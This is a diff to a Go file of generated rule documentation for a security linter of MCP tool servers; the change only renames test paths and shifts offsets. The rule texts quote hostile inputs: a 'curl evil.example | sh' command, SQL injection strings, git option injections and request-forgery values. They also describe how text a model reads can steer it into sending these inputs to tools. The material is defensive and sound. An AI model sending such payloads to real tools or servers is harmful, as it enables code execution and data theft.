@@ -2109,7 +2109,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"tool that joins a name to a folder means \"a file in this folder\"; the\n" +
 			"argument breaks that. A tool that checks a whole path against a folder\n" +
 			"means \"a file in this folder\" as plainly, and /srv/share-evil/x starts\n" +
-			"with /srv/share. The test TestEscape (analyzers/security) reads a\n" +
+			"with /srv/share. The test TestEscape (analyzers/families/security) reads a\n" +
 			"file outside the base and writes one there through a real go-sdk client,\n" +
 			"and for each check above, with the value that passes it, reads the\n" +
 			"sibling folder's file or writes one there, while each correct check\n" +
@@ -2127,7 +2127,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\tfunc (s *Notes) read(ctx context.Context, req *mcp.CallToolRequest, in In) (*mcp.CallToolResult, Out, error) {\n" +
 			"\t\tb, err := s.root.ReadFile(in.Name) // s.root, _ = os.OpenRoot(dir): no name leaves it\n" +
 			"\t\treturn nil, Out{Text: string(b)}, err\n" +
-			"\t}", 88, 6189, true
+			"\t}", 88, 6198, true
 	case "OMCG0030":
 		return "a tool argument is pasted into a shell command line (command injection, CWE-78)\n" +
 			"\n" +
@@ -2223,7 +2223,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"Whatever text the model reads can ask it to send x; curl evil.example | sh\n" +
 			"as a search pattern; the shell runs what follows ;, |, &&, a newline\n" +
 			"or $( ). Quoting inside the command line does not help: the argument can\n" +
-			"close the quote. TestEscape (analyzers/security) creates a marker file\n" +
+			"close the quote. TestEscape (analyzers/families/security) creates a marker file\n" +
 			"through each flagged tool, and none through the tools beside them.\n" +
 			"\n" +
 			"Bad:\n" +
@@ -2232,7 +2232,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"Good:\n" +
 			"\n" +
-			"\tout, err := exec.CommandContext(ctx, \"grep\", \"-rn\", \"--\", in.Pattern, \".\").Output()", 79, 6494, true
+			"\tout, err := exec.CommandContext(ctx, \"grep\", \"-rn\", \"--\", in.Pattern, \".\").Output()", 79, 6503, true
 	case "OMCG0031":
 		return "a tool argument is passed to a program where it can be read as an option (argument injection, CWE-88)\n" +
 			"\n" +
@@ -2354,7 +2354,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"--output=/home/u/.bashrc makes git diff write a file, --upload-pack=\n" +
 			"makes git fetch run a program, -exec makes find run one. This is the\n" +
 			"argument injection filed against MCP git servers. TestEscape\n" +
-			"(analyzers/security) makes git write a file through each flagged tool,\n" +
+			"(analyzers/families/security) makes git write a file through each flagged tool,\n" +
 			"and makes a kubectl written by the test (one that reads its options as\n" +
 			"kubectl's flag parser does) take --server= from each flagged mcp-go\n" +
 			"tool, served by mcp-go and called by a real client, and from each\n" +
@@ -2368,7 +2368,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"Good:\n" +
 			"\n" +
-			"\tout, err := exec.CommandContext(ctx, \"git\", \"diff\", \"--end-of-options\", in.Rev).Output()", 101, 8301, true
+			"\tout, err := exec.CommandContext(ctx, \"git\", \"diff\", \"--end-of-options\", in.Rev).Output()", 101, 8310, true
 	case "OMCG0032":
 		return "a tool argument is pasted into the text of a database query (SQL injection, CWE-89)\n" +
 			"\n" +
@@ -2407,7 +2407,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"The model can be asked to send x' OR '1'='1 or x' UNION SELECT password FROM users --:\n" +
 			"the quote ends the literal and the rest is SQL. TestEscape\n" +
-			"(analyzers/security) records the statement a registered driver receives.\n" +
+			"(analyzers/families/security) records the statement a registered driver receives.\n" +
 			"\n" +
 			"Bad:\n" +
 			"\n" +
@@ -2415,7 +2415,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"Good:\n" +
 			"\n" +
-			"\trows, err := db.QueryContext(ctx, \"SELECT body FROM notes WHERE owner = ?\", in.Owner)", 83, 2331, true
+			"\trows, err := db.QueryContext(ctx, \"SELECT body FROM notes WHERE owner = ?\", in.Owner)", 83, 2340, true
 	case "OMCG0033":
 		return "a tool argument is pasted into a request URL after a fixed base (request forgery, CWE-918)\n" +
 			"\n" +
@@ -2460,7 +2460,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"to, usually with the server's own credentials. An argument of\n" +
 			"../admin/delete, x@evil.example, x/..%2f.. or x?, asked for by any\n" +
 			"text the model reads, reaches another path or host. TestEscape\n" +
-			"(analyzers/security) sends a request to another path of an httptest\n" +
+			"(analyzers/families/security) sends a request to another path of an httptest\n" +
 			"server through the flagged tool.\n" +
 			"\n" +
 			"Bad:\n" +
@@ -2469,7 +2469,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"Good:\n" +
 			"\n" +
-			"\tresp, err := http.Get(s.base + \"/users/\" + url.PathEscape(in.User))", 90, 3027, true
+			"\tresp, err := http.Get(s.base + \"/users/\" + url.PathEscape(in.User))", 90, 3036, true
 	case "OMCG0034":
 		return "a handler sends its own request to the client, which protocol 2026-07-28 and stateless servers refuse\n" +
 			"\n" +
@@ -2638,7 +2638,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"The tags compile, and the tool works: only the model reading the tool list is left\n" +
 			"without the parameter descriptions, and with \",required\" in the text of each. A\n" +
 			"server that moved from another SDK or an older go-sdk loses every description of\n" +
-			"every parameter at once, silently. A test in analyzers/schematype holds this\n" +
+			"every parameter at once, silently. A test in analyzers/families/schematype holds this\n" +
 			"against the real go-sdk.\n" +
 			"\n" +
 			"Bad:\n" +
@@ -2653,7 +2653,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\ttype SearchIn struct {\n" +
 			"\t\tQuery string `json:\"query\" jsonschema:\"what to look for\"`\n" +
 			"\t\tPage  int    `json:\"page\" jsonschema:\"the page, from 1\"`\n" +
-			"\t}", 67, 2452, true
+			"\t}", 67, 2461, true
 	case "OMCG0037":
 		return "an mcp-go array parameter has no items schema\n" +
 			"\n" +
@@ -2773,7 +2773,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"handler that requires another name fails every call with required\n" +
 			"argument \"qeury\" not found, and no test that calls the handler with the\n" +
 			"arguments it expects notices. TestDriftThroughClient\n" +
-			"(analyzers/drift) calls such tools through a real mcp-go or go-sdk client\n" +
+			"(analyzers/families/drift) calls such tools through a real mcp-go or go-sdk client\n" +
 			"with the arguments their own listing allows and sees each call fail.\n" +
 			"\n" +
 			"Bad:\n" +
@@ -2787,7 +2787,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"Good:\n" +
 			"\n" +
-			"\t\tq, err := req.RequireString(\"query\")", 63, 4325, true
+			"\t\tq, err := req.RequireString(\"query\")", 63, 4334, true
 	case "OMCG0039":
 		return "a tool's handler reads an argument as a type its listing's type never is\n" +
 			"\n" +
